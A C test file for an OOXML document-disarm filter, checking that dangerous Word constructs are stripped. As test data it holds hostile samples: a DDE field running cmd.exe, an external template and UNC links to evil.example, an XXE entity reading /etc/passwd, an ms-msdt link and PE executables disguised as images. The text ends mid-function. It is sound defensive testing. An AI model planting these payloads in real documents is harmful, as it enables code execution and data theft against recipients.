/*
 * NAME
 *   test_ooxml - the OOXML disarm filter (filters/f_ooxml.c), in process
 *
 * DESCRIPTION
 *   Small packages built here with libarchive, one per dangerous construct
 *   (vbaProject, ActiveX, OLE object, external template, altChunk, DDE and
 *   INCLUDE fields, fields whose keyword a nested field makes, HYPERLINK/
 *   MACROBUTTON and other non-allowlisted fields, external hyperlink,
 *   customUI, media parts by content (a PE named image1.png, a PNG with a
 *   PE appended, a fake EMF, an uncheckable type), xlsx data connections,
 *   query tables, external links and formulas that fetch or run
 *   (WEBSERVICE, HYPERLINK, RTD, DDE "|", shared, defined names, rules),
 *   DTD/XXE, bad names, not a
 *   zip, OLE2/encrypted); each row says which strings must be gone from
 *   the whole output, which must stay, the note and the output type.  The
 *   real oletools samples must come out without vbaProject/activeX/
 *   oleObject/embeddings parts or external relationships, and the output
 *   must pass the filter again with nothing left to remove.
 */
#include <archive.h>
#include <archive_entry.h>
#include <string.h>

#include "f_ooxml.h"
#include "mk_limits.h"
#include "testutil.h"

#define DOCX_T "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
#define DOCM_MAIN "application/vnd.ms-word.document.macroEnabled.main+xml"
#define R_NS "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
#define W_NS "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

static const mk_wopts opts = { .max_output = 64 * MK_MiB,
                               .ooxml_max_parts = MK_DEF_OOXML_MAX_PARTS,
                               .ooxml_max_part_size = 64 * MK_MiB,
                               .image_max_pixels = MK_DEF_IMAGE_MAX_PIXELS,
                               .image_max_dimension = MK_DEF_IMAGE_MAX_DIMENSION };

static void gstring_free(gpointer s)
{
	g_string_free(s, TRUE);
}

/* DATAS: GBytes* per name. */
static GBytes *make_zip(GPtrArray *names, GPtrArray *datas)
{
	struct archive *a = archive_write_new();
	gsize cap = 1 << 20, used = 0;
	char *buf = g_malloc(cap);
	archive_write_set_format_zip(a);
	ck_assert_int_eq(archive_write_open_memory(a, buf, cap, &used), ARCHIVE_OK);
	for (guint i = 0; i < names->len; i++) {
		struct archive_entry *e = archive_entry_new();
		gsize len = 0;
		const char *d = g_bytes_get_data(datas->pdata[i], &len);
		archive_entry_set_pathname(e, names->pdata[i]);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_entry_set_size(e, (la_int64_t)len);
		ck_assert_int_eq(archive_write_header(a, e), ARCHIVE_OK);
		archive_write_data(a, d, len);
		archive_entry_free(e);
	}
	archive_write_close(a);
	archive_write_free(a);
	return g_bytes_new_take(buf, used);
}

/* All members of a zip, name → content (NULL table if not a zip). */
static GHashTable *unzip_all(GBytes *z)
{
	gsize len = 0;
	const void *d = g_bytes_get_data(z, &len);
	struct archive *a = archive_read_new();
	struct archive_entry *e;
	GHashTable *h = g_hash_table_new_full(g_str_hash, g_str_equal, g_free,
	                                      gstring_free);
	archive_read_support_format_zip(a);
	ck_assert_int_eq(archive_read_open_memory(a, d, len), ARCHIVE_OK);
	while (archive_read_next_header(a, &e) == ARCHIVE_OK) {
		GString *s = g_string_new(NULL);
		char chunk[8192];
		la_ssize_t n;
		while ((n = archive_read_data(a, chunk, sizeof chunk)) > 0)
			g_string_append_len(s, chunk, n);
		ck_assert_int_eq(n, 0);
		g_hash_table_insert(h, g_strdup(archive_entry_pathname(e)), s);
	}
	archive_read_free(a);
	return h;
}

static bool any_contains(GHashTable *h, const char *needle, bool names)
{
	GHashTableIter it;
	gpointer k, v;
	g_hash_table_iter_init(&it, h);
	while (g_hash_table_iter_next(&it, &k, &v)) {
		char *lk = g_ascii_strdown(k, -1);
		bool hit = names ? strstr(lk, needle) != NULL
		                 : strstr(((GString *)v)->str, needle) != NULL;
		g_free(lk);
		if (hit)
			return true;
	}
	return false;
}

/* complex field markup */
#define FB "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
#define FS "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
#define FE "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
#define IT(s) "<w:r><w:instrText xml:space=\"preserve\">" s "</w:instrText></w:r>"
#define RT(s) "<w:r><w:t>" s "</w:t></w:r>"

/* an image part and its use */
#define PNG_CT "<Override PartName=\"/word/media/image1.png\" ContentType=\"image/png\"/>"
#define IMG_REL "<Relationship Id=\"rId7\" Type=\"" R_NS "/image\" Target=\"media/image1.png\"/>"
#define BLIP_BODY "<w:p><w:r><w:drawing><a:blip xmlns:a=\"urn:a\" r:embed=\"rId7\"/></w:drawing><w:t>txt</w:t></w:r></w:p>"
/* a 2x2 RGB PNG */
#define PNG_B64 "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg=="

/* EMF: header, EMR_COMMENT holding a PE, EMR_SETBKMODE, EMR_EOF; the same
 * with an unknown record (type 200); WMF: placeable header, META_ESCAPE
 * holding a PE, META_SETBKMODE, META_EOF */
#define EMF_CT "<Override PartName=\"/word/media/image1.png\" ContentType=\"image/x-emf\"/>"
#define EMF_PE_B64 "AQAAAFgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABkAAAAZAAAACBFTUYAAAEAuAAAAAQAAAABAAAAAAAAAAAAAAAAAAAAAAQAAAADAABAAQAA8AAAAEYAAABAAAAANAAAAE1akAAgVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJFBFAAASAAAADAAAAAEAAAAOAAAAFAAAAAAAAAAQAAAAFAAAAA=="
#define EMF_BAD_B64 "AQAAAFgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABkAAAAZAAAACBFTUYAAAEAhAAAAAQAAAABAAAAAAAAAAAAAAAAAAAAAAQAAAADAABAAQAA8AAAABIAAAAMAAAAAQAAAMgAAAAMAAAAYWJjZA4AAAAUAAAAAAAAABAAAAAUAAAA"
#define WMF_PE_B64 "183GmgAAAAAAAGQAZACgBQAAAACxUgEACQAAAy8AAAAAAB8AAAAAAB8AAAAmBg8ANABNWpAAIFRoaXMgcHJvZ3JhbSBjYW5ub3QgYmUgcnVuIGluIERPUyBtb2RlLg0NCiRQRQAABAAAAAIBAQADAAAAAAA="
#define VML_NS "xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\""

static const struct row {
	const char *name;
	const char *main_ct;        /* NULL = docx */
	const char *overrides;      /* extra <Override/> */
	const char *doc_rels;       /* extra word/_rels/document.xml.rels rows */
	const char *root_rels;      /* extra _rels/.rels rows */
	const char *body;           /* inside <w:body> */
	const char *extra[3][2];    /* more parts */
	const char *gone[3];        /* in no output member (lower case names) */
	const char *kept;           /* in some output member */
	const char *note;
	int rc;
} rows[] = {
	{ "vbaproject", DOCM_MAIN,
	  "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>",
	  "<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>",
	  NULL, "<w:p><w:r><w:t>hello</w:t></w:r></w:p>",
	  { { "word/vbaProject.bin", "VBA\x01" } },
	  { "vbaproject", "macroenabled" }, "hello", "vbaProject.bin", 0 },
	{ "activex", NULL,
	  "<Override PartName=\"/word/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>",
	  "<Relationship Id=\"rId8\" Type=\"" R_NS "/control\" Target=\"activeX/activeX1.xml\"/>",
	  NULL, "<w:p><w:r><w:object><w:control r:id=\"rId8\" w:name=\"X\"/></w:object><w:t>ok</w:t></w:r></w:p>",
	  { { "word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"urn:x\"/>" } },
	  { "activex", "w:control" }, "ok", "activeX1.xml", 0 },
	{ "oleobject", NULL,
	  "<Override PartName=\"/word/embeddings/oleObject1.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>",
	  "<Relationship Id=\"rId7\" Type=\"" R_NS "/oleObject\" Target=\"embeddings/oleObject1.bin\"/>",
	  NULL, "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" ProgID=\"Package\" r:id=\"rId7\"/></w:object></w:r></w:p>",
	  { { "word/embeddings/oleObject1.bin", "OLE" } },
	  { "oleobject", "rid7" }, "w:object", "oleObject1.bin", 0 },
	{ "external-template", NULL,
	  "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>",
	  "<Relationship Id=\"rId3\" Type=\"" R_NS "/settings\" Target=\"settings.xml\"/>",
	  NULL, "<w:p/>",
	  { { "word/settings.xml", "<w:settings xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\"><w:attachedTemplate r:id=\"rId1\"/><w:zoom w:percent=\"100\"/></w:settings>" },
	    { "word/_rels/settings.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"" R_NS "/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>" } },
	  { "evil.example", "attachedtemplate" }, "w:zoom", "external relationship", 0 },
	{ "altchunk", NULL,
	  "<Override PartName=\"/word/afchunk.mht\" ContentType=\"message/rfc822\"/>",
	  "<Relationship Id=\"rId5\" Type=\"" R_NS "/aFChunk\" Target=\"afchunk.mht\"/>",
	  NULL, "<w:altChunk r:id=\"rId5\"/><w:p><w:r><w:t>after</w:t></w:r></w:p>",
	  { { "word/afchunk.mht", "MIME-Version: 1.0" } },
	  { "afchunk", "altchunk" }, "after", "afchunk.mht", 0 },
	{ "dde-field", NULL, NULL, NULL, NULL,
	  "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
	  "<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"
	  "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>cached</w:t></w:r>"
	  "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
	  { { NULL } }, { "cmd.exe", "instrtext", "fldchar" }, "cached", "field", 0 },
	{ "include-simple", NULL, NULL, NULL, NULL,
	  "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://x/a.png&quot; \\d\"><w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>",
	  { { NULL } }, { "includepicture", "fldsimple" }, "pic", "field", 0 },
	{ "safe-field", NULL, NULL, NULL, NULL,
	  "<w:p><w:fldSimple w:instr=\"PAGE\"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>",
	  { { NULL } }, { NULL }, "w:fldSimple", NULL, 0 },
	/* a field whose keyword is made by a nested field (QUOTE with
	 * character codes spelling DDEAUTO), nested twice as well: only the
	 * outer first word used to be looked at */
	{ "nested-quote-dde", NULL, NULL, NULL, NULL,
	  "<w:p>" FB IT(" ") FB IT("QUOTE 68 68 69 65 85 84 79") FS RT("x") FE
	  IT(" \"c:\\\\windows\\\\system32\\\\cmd.exe\" \"/k calc.exe\" ") FS
	  RT("shown") FE "</w:p>",
	  { { NULL } }, { "quote 68", "cmd.exe", "fldchar" }, "shown", "nested-field", 0 },
	{ "nested-deep", NULL, NULL, NULL, NULL,
	  "<w:p>" FB FB FB IT("QUOTE 68") FS RT("D") FE IT(" 68 69") FS RT("DD")
	  FE IT(" c:\\\\x.exe") FS RT("shown") FE "</w:p>",
	  { { NULL } }, { "quote", "x.exe", "fldchar" }, "shown", "nested-field", 0 },
	{ "hyperlink-field", NULL, NULL, NULL, NULL,
	  "<w:p>" FB IT(" HYPERLINK \"file://evil.example/share/x.exe\" ") FS
	  RT("click") FE "</w:p>",
	  { { NULL } }, { "file://", "hyperlink", "instrtext" }, "click", "type not allowed", 0 },
	/* a web HYPERLINK field leaves its URL, defanged, after its result
	 * (issue 14): complex and simple, with switches before the target */
	{ "hyperlink-field-web", NULL, NULL, NULL, NULL,
	  "<w:p>" FB IT(" HYPERLINK \\o \"tip\" \"https://www.example.jp/a?b=1\" ") FS
	  RT("click") FE "</w:p>",
	  { { NULL } }, { "hyperlink", "instrtext", "tip" },
	  "<w:t xml:space=\"preserve\"> &lt;hxxps://www[.]example[.]jp/a?b=1&gt;</w:t>",
	  "web_link 1: ", 0 },
	{ "hyperlink-simple-web", NULL, NULL, NULL, NULL,
	  "<w:p><w:fldSimple w:instr=\" HYPERLINK &quot;http://city.example.lg.jp/x&quot; \"><w:r><w:t>res</w:t></w:r></w:fldSimple></w:p>",
	  { { NULL } }, { "fldsimple", "hyperlink" },
	  "res</w:t></w:r><w:r><w:t xml:space=\"preserve\"> &lt;hxxp://city[.]example[.]lg[.]jp/x&gt;</w:t></w:r>",
	  "web_link 1: ", 0 },
	{ "hyperlink-bookmark", NULL, NULL, NULL, NULL,
	  "<w:p>" FB IT(" HYPERLINK \\l \"https://www.example.jp/\" ") FS RT("sec") FE "</w:p>",
	  { { NULL } }, { "hyperlink", "example" }, "sec", "type not allowed", 0 },
	{ "msdt-simple", NULL, NULL, NULL, NULL,
	  "<w:p><w:fldSimple w:instr=\" HYPERLINK &quot;ms-msdt:/id PCWDiagnostic&quot; \"><w:r><w:t>res</w:t></w:r></w:fldSimple></w:p>",
	  { { NULL } }, { "ms-msdt", "fldsimple" }, "res", "type not allowed", 0 },
	{ "macrobutton", NULL, NULL, NULL, NULL,
	  "<w:p>" FB IT("MACROBUTTON Evil go") FS RT("btn") FE "</w:p>",
	  { { NULL } }, { "macrobutton", "instrtext" }, "btn", "type not allowed", 0 },
	{ "pagex-not-page", NULL, NULL, NULL, NULL,
	  "<w:p><w:fldSimple w:instr=\"PAGEX\"><w:r><w:t>7</w:t></w:r></w:fldSimple></w:p>",
	  { { NULL } }, { "pagex" }, "7", "type not allowed", 0 },
	/* a field in the result of a harmless one is judged on its own */
	{ "toc-with-pageref", NULL, NULL, NULL, NULL,
	  "<w:p>" FB IT(" TOC \\o \"1-3\" ") FS FB IT(" pageref _Toc1 \\h ") FS
	  RT("3") FE FE "</w:p>",
	  { { NULL } }, { NULL }, "pageref _Toc1", NULL, 0 },
	{ "hyperlink", NULL, NULL,
	  "<Relationship Id=\"rId4\" Type=\"" R_NS "/hyperlink\" Target=\"http://evil.example/\" TargetMode=\"External\"/>",
	  NULL, "<w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>",
	  { { NULL } }, { "evil.example", "rid4" }, "link", "external relationship", 0 },
	/* media parts by content: a PE named image1.png went out byte-exact;
	 * a PNG with a PE appended loses the tail (rebuilt from pixels) */
	{ "media-pe-as-png", NULL, PNG_CT, IMG_REL, NULL, BLIP_BODY,
	  { { "word/media/image1.png", "MZ\x90 This program cannot be run in DOS mode.\r\r\n$PE" } },
	  { "image1.png", "cannot be run", "rid7" }, "txt", "not a valid image", 0 },
	{ "media-png-plus-pe", NULL, PNG_CT, IMG_REL, NULL, BLIP_BODY,
	  { { "word/media/image1.png", "b64:iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggk1akAAgVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUu" } },
	  { "cannot be run", "dos mode" }, "r:embed=\"rId7\"", NULL, 0 },
	{ "media-valid-png", NULL, PNG_CT, IMG_REL, NULL, BLIP_BODY,
	  { { "word/media/image1.png", "b64:" PNG_B64 } },
	  { NULL }, "r:embed=\"rId7\"", NULL, 0 },
	{ "media-fake-emf", NULL,
	  "<Override PartName=\"/word/media/image1.png\" ContentType=\"image/x-emf\"/>",
	  IMG_REL, NULL, BLIP_BODY,
	  { { "word/media/image1.png", "GIF89a not an EMF at all, just bytes ...................................................." } },
	  { "image1.png", "gif89a", "rid7" }, "txt", "metafile", 0 },
	{ "media-unchecked-type", NULL,
	  "<Override PartName=\"/word/media/image1.png\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\"/>",
	  IMG_REL, NULL, BLIP_BODY,
	  { { "word/media/image1.png", "PK\x03\x04 zip" } },
	  { "image1.png", "rid7" }, "txt", "cannot check", 0 },
	/* metafiles are rebuilt from their records: a PE in an EMR_COMMENT /
	 * META_ESCAPE went out byte-exact (header checked only); an unknown
	 * record drops the picture */
	{ "media-emf-comment", NULL, EMF_CT, IMG_REL, NULL, BLIP_BODY,
	  { { "word/media/image1.png", "b64:" EMF_PE_B64 } },
	  { "cannot be run" }, "r:embed=\"rId7\"", "metafile comment", 0 },
	{ "media-wmf-escape", NULL,
	  "<Override PartName=\"/word/media/image1.png\" ContentType=\"image/x-wmf\"/>",
	  IMG_REL, NULL, BLIP_BODY,
	  { { "word/media/image1.png", "b64:" WMF_PE_B64 } },
	  { "cannot be run" }, "r:embed=\"rId7\"", "metafile comment", 0 },
	{ "media-emf-unknown-record", NULL, EMF_CT, IMG_REL, NULL, BLIP_BODY,
	  { { "word/media/image1.png", "b64:" EMF_BAD_B64 } },
	  { "image1.png", "rid7" }, "txt", "not a metafile", 0 },
	/* links outside the package in VML attributes, and a mail merge
	 * data source in settings */
	{ "vml-shape-href", NULL, NULL, NULL, NULL,
	  "<w:p><w:r><w:pict><v:rect " VML_NS " href=\"file:///\\\\evil.example\\s\\x.exe\" o:button=\"t\"><v:textbox><w:txbxContent><w:p><w:r><w:t>Click</w:t></w:r></w:p></w:txbxContent></v:textbox></v:rect></w:pict></w:r></w:p>",
	  { { NULL } }, { "evil.example", "href" }, "Click", "link/macro", 0 },
	{ "vml-imagedata-src", NULL, NULL, NULL, NULL,
	  "<w:p><w:r><w:pict><v:shape " VML_NS "><v:imagedata src=\"\\\\evil.example\\s\\x.png\" o:href=\"file://evil.example/x.png\" o:title=\"\"/><v:fill o:althref=\"//evil.example/f\"/></v:shape></w:pict></w:r></w:p>",
	  { { NULL } }, { "evil.example", "href" }, "v:imagedata", "link/macro", 0 },
	{ "hlink-action-macro", NULL, NULL, NULL, NULL,
	  "<w:p><w:r><w:drawing><a:hlinkClick xmlns:a=\"urn:a\" r:id=\"\" action=\"ppaction://macro?name=Evil\"/><a:hlinkClick xmlns:a=\"urn:a\" r:id=\"\" action=\"ppaction://hlinksldjump\"/></w:drawing></w:r></w:p>",
	  { { NULL } }, { "ppaction://macro" }, "ppaction://hlinksldjump", "link/macro", 0 },
	{ "mailmerge", NULL,
	  "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>",
	  "<Relationship Id=\"rId3\" Type=\"" R_NS "/settings\" Target=\"settings.xml\"/>",
	  NULL, "<w:p/>",
	  { { "word/settings.xml", "<w:settings xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\"><w:zoom w:percent=\"100\"/><w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:linkToQuery/><w:dataType w:val=\"native\"/>"
	      "<w:connectString w:val=\"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\s\\x.xlsx;\"/><w:query w:val=\"SELECT * FROM x\"/><w:dataSource r:id=\"rId1\"/></w:mailMerge></w:settings>" },
	    { "word/_rels/settings.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"" R_NS "/mailMergeSource\" Target=\"file:///\\\\evil.example\\s\\x.xlsx\" TargetMode=\"External\"/></Relationships>" } },
	  { "evil.example", "mailmerge", "select" }, "w:zoom", "<mailMerge> element", 0 },
	{ "customui", NULL,
	  "<Override PartName=\"/customUI/customUI.xml\" ContentType=\"application/xml\"/>",
	  NULL, "<Relationship Id=\"rIdU\" Type=\"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility\" Target=\"customUI/customUI.xml\"/>",
	  "<w:p/>", { { "customUI/customUI.xml", "<customUI onLoad=\"Evil\"/>" } },
	  { "customui", "onload" }, "w:body", "customUI.xml", 0 },
	/* web hyperlinks stay as defanged text after their anchor; file:,
	 * javascript: and UNC targets go without a trace */
	{ "hyperlink-web", NULL, NULL,
	  "<Relationship Id=\"rId4\" Type=\"" R_NS "/hyperlink\" Target=\"https://www.example.jp/a?b=1\" TargetMode=\"External\"/>"
	  "<Relationship Id=\"rId5\" Type=\"" R_NS "/hyperlink\" Target=\"file://srv/share/x.exe\" TargetMode=\"External\"/>"
	  "<Relationship Id=\"rId6\" Type=\"" R_NS "/hyperlink\" Target=\"javascript:alert(1)\" TargetMode=\"External\"/>",
	  NULL, "<w:p><w:hyperlink r:id=\"rId4\">" RT("our site") "</w:hyperlink>"
	  "<w:hyperlink r:id=\"rId5\">" RT("a file") "</w:hyperlink>"
	  "<w:hyperlink r:id=\"rId6\">" RT("a script") "</w:hyperlink></w:p>",
	  { { NULL } }, { "https:", "srv", "alert" },
	  "our site</w:t></w:r></w:hyperlink><w:r><w:t xml:space=\"preserve\"> &lt;hxxps://www[.]example[.]jp/a?b=1&gt;</w:t></w:r><w:hyperlink>",
	  "kept 1 web link(s) as defanged text", 0 },
	/* an anchor that names another host than its target: marked, counted
	 * (issue 14, item 3) */
	{ "hyperlink-misleading", NULL, NULL,
	  "<Relationship Id=\"rId4\" Type=\"" R_NS "/hyperlink\" Target=\"https://login.evil.example/\" TargetMode=\"External\"/>",
	  NULL, "<w:p><w:hyperlink r:id=\"rId4\">" RT("https://www.bank.example/login") "</w:hyperlink>"
	  "<w:fldSimple w:instr=\" HYPERLINK &quot;http://evil.example/&quot; \">" RT("www.city.example.lg.jp") "</w:fldSimple></w:p>",
	  { { NULL } }, { "evil.example", "rid4" },
	  "</w:hyperlink><w:r><w:t xml:space=\"preserve\"> 【注意: 表示と異なるリンク先】 &lt;hxxps://login[.]evil[.]example/&gt;</w:t></w:r>",
	  "link_mismatch 2: ", 0 },
	{ "hyperlink-drawingml", NULL, NULL,
	  "<Relationship Id=\"rId4\" Type=\"" R_NS "/hyperlink\" Target=\"http://city.example.lg.jp/x\" TargetMode=\"External\"/>"
	  "<Relationship Id=\"rId5\" Type=\"" R_NS "/hyperlink\" Target=\"\\\\srv\\s\\x.exe\" TargetMode=\"External\"/>",
	  NULL, "<w:p><w:r><w:drawing><a:p xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\">"
	  "<a:r><a:rPr><a:hlinkClick r:id=\"rId4\"/></a:rPr><a:t>お知らせ</a:t></a:r>"
	  "<a:r><a:rPr><a:hlinkClick r:id=\"rId5\"/></a:rPr><a:t>share</a:t></a:r></a:p></w:drawing></w:r></w:p>",
	  { { NULL } }, { "srv", "city.example" },
	  "お知らせ</a:t></a:r><a:r><a:t xml:space=\"preserve\"> &lt;hxxp://city[.]example[.]lg[.]jp/x&gt;</a:t></a:r>",
	  "kept 1 web link(s) as defanged text", 0 },
	{ "dtd", NULL, NULL, NULL, NULL, "<w:p/>",
	  { { NULL } }, { NULL }, NULL, NULL, MK_ERR_DATA },
	/* a bad part name after good parts fails the document (it used to end
	 * the read with success: a truncated package), and a control character
	 * is bad (it went into [Content_Types].xml, which then did not parse:
	 * found by fuzz_ooxml) */
	{ "late-traversal", NULL, NULL, NULL, NULL, "<w:p/>",
	  { { "word/../../evil.xml", "<x/>" } }, { NULL }, NULL, NULL, MK_ERR_DATA },
	{ "control-in-name", NULL, NULL, NULL, NULL, "<w:p/>",
	  { { "wo\vd/media/image1.emf", "x" } }, { NULL }, NULL, NULL, MK_ERR_DATA },
	{ "xmlm-macrosheet", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", NULL, NULL,
	  NULL, NULL, { { NULL } }, { NULL }, NULL, NULL, MK_ERR_DATA },
};

static GBytes *str_bytes(char *s)
{
	return g_bytes_new_take(s, strlen(s));
}

/* A part's content: the text, or binary written "b64:BASE64". */
static GBytes *part_bytes(const char *s)
{
	gsize n = 0;
	if (!g_str_has_prefix(s, "b64:"))
		return g_bytes_new(s, strlen(s));
	guchar *b = g_base64_decode(s + 4, &n);
	return g_bytes_new_take(b, n);
}

/* The zip of parts N/D plus a row's EXTRA parts (name, part_bytes text;
 * up to MAX, the first NULL name ends them); N and D are consumed. */
static GBytes *package(GPtrArray *n, GPtrArray *d, const char *const (*extra)[2],
                       gsize max)
{
	for (gsize i = 0; i < max && extra[i][0]; i++) {
		g_ptr_array_add(n, (gpointer)extra[i][0]);
		g_ptr_array_add(d, part_bytes(extra[i][1]));
	}
	GBytes *z = make_zip(n, d);
	g_ptr_array_free(n, TRUE);
	g_ptr_array_unref(d);
	return z;
}

/* Where a row's body goes (issue 13, item 9: Word scrubs by the part's
 * role): NULL part = the main document; else a part of that role, reached
 * from the main document by a relationship of type REL, its root element
 * opened by OPEN and closed by CLOSE; the row's document relationships
 * become that part's. */
#define WNS "xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\""
#define WML_CT "application/vnd.openxmlformats-officedocument.wordprocessingml."
#define PLACE(stem, open, close, rel, ct) { "word/" stem ".xml", \
	"word/_rels/" stem ".xml.rels", open, close, \
	"<Relationship Id=\"rIdPlace\" Type=\"" R_NS "/" rel "\" Target=\"" stem ".xml\"/>", \
	"<Override PartName=\"/word/" stem ".xml\" ContentType=\"" WML_CT ct "\"/>" }
static const struct place {
	const char *part, *rels, *open, *close, *rel, *override;
} word_places[] = {
	{ NULL, NULL, NULL, NULL, NULL, NULL },
	PLACE("header1", "<w:hdr " WNS ">", "</w:hdr>", "header", "header+xml"),
	PLACE("footer1", "<w:ftr " WNS ">", "</w:ftr>", "footer", "footer+xml"),
	PLACE("footnotes", "<w:footnotes " WNS "><w:footnote w:id=\"1\">",
	      "</w:footnote></w:footnotes>", "footnotes", "footnotes+xml"),
	PLACE("endnotes", "<w:endnotes " WNS "><w:endnote w:id=\"1\">",
	      "</w:endnote></w:endnotes>", "endnotes", "endnotes+xml"),
	PLACE("comments", "<w:comments " WNS "><w:comment w:id=\"0\">",
	      "</w:comment></w:comments>", "comments", "comments+xml"),
	PLACE("glossary", "<w:glossaryDocument " WNS "><w:docParts><w:docPart>"
	      "<w:docPartBody>", "</w:docPartBody></w:docPart></w:docParts>"
	      "</w:glossaryDocument>", "glossaryDocument", "document.glossary+xml"),
};

#define RELS_OPEN "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"

static GBytes *build_row_in(const struct row *r, const char *main_ct,
                            const struct place *pl)
{
	GPtrArray *n = g_ptr_array_new();
	GPtrArray *d = g_ptr_array_new_with_free_func((GDestroyNotify)g_bytes_unref);
	bool dtd = strcmp(r->name, "dtd") == 0;
	const char *body = r->body ? r->body : "&x;";
	const char *rels = r->doc_rels ? r->doc_rels : "";

	g_ptr_array_add(n, "[Content_Types].xml");
	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
	    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
	    "<Override PartName=\"/word/document.xml\" ContentType=\"%s\"/>%s%s</Types>",
	    main_ct, r->overrides ? r->overrides : "",
	    pl->override ? pl->override : "")));
	g_ptr_array_add(n, "_rels/.rels");
	g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN
	    "<Relationship Id=\"rId1\" Type=\"" R_NS "/officeDocument\" Target=\"word/document.xml\"/>%s</Relationships>",
	    r->root_rels ? r->root_rels : "")));
	g_ptr_array_add(n, "word/document.xml");
	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?>%s<w:document " WNS "><w:body>%s</w:body></w:document>",
	    dtd ? "<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" : "",
	    pl->part ? "<w:p><w:r><w:t>main</w:t></w:r></w:p>" : body)));
	g_ptr_array_add(n, "word/_rels/document.xml.rels");
	if (pl->part) {
		g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s</Relationships>",
		    pl->rel)));
		g_ptr_array_add(n, (gpointer)pl->part);
		g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?>%s%s%s",
		    pl->open, body, pl->close)));
		g_ptr_array_add(n, (gpointer)pl->rels);
		g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s</Relationships>",
		    rels)));
	} else {
		g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s</Relationships>",
		    rels)));
	}
	return package(n, d, r->extra, G_N_ELEMENTS(r->extra));
}

static GBytes *build_row(const struct row *r)
{
	return build_row_in(r, r->main_ct ? r->main_ct : DOCX_T ".main+xml",
	                    &word_places[0]);
}

static int run(GBytes *in, GBytes **out, char **type, GPtrArray *notes,
               mk_error *err)
{
	*out = NULL;
	*type = NULL;
	int rc = mk_wfilter_ooxml.run(in, &opts, out, type, notes, err);
	if (rc < 0)
		ck_assert_ptr_null(*out);
	return rc;
}

static bool notes_have(GPtrArray *notes, const char *sub)
{
	for (guint i = 0; i < notes->len; i++)
		if (strstr(notes->pdata[i], sub))
			return true;
	return false;
}

/* The output is clean and a second pass finds nothing more to remove. */
static void check_again(GBytes *out, const char *type)
{
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	GBytes *o2 = NULL;
	char *t2 = NULL;
	ck_assert_msg(run(out, &o2, &t2, notes, &err) == 0, "again: %s", err.msg);
	ck_assert_str_eq(t2, type);
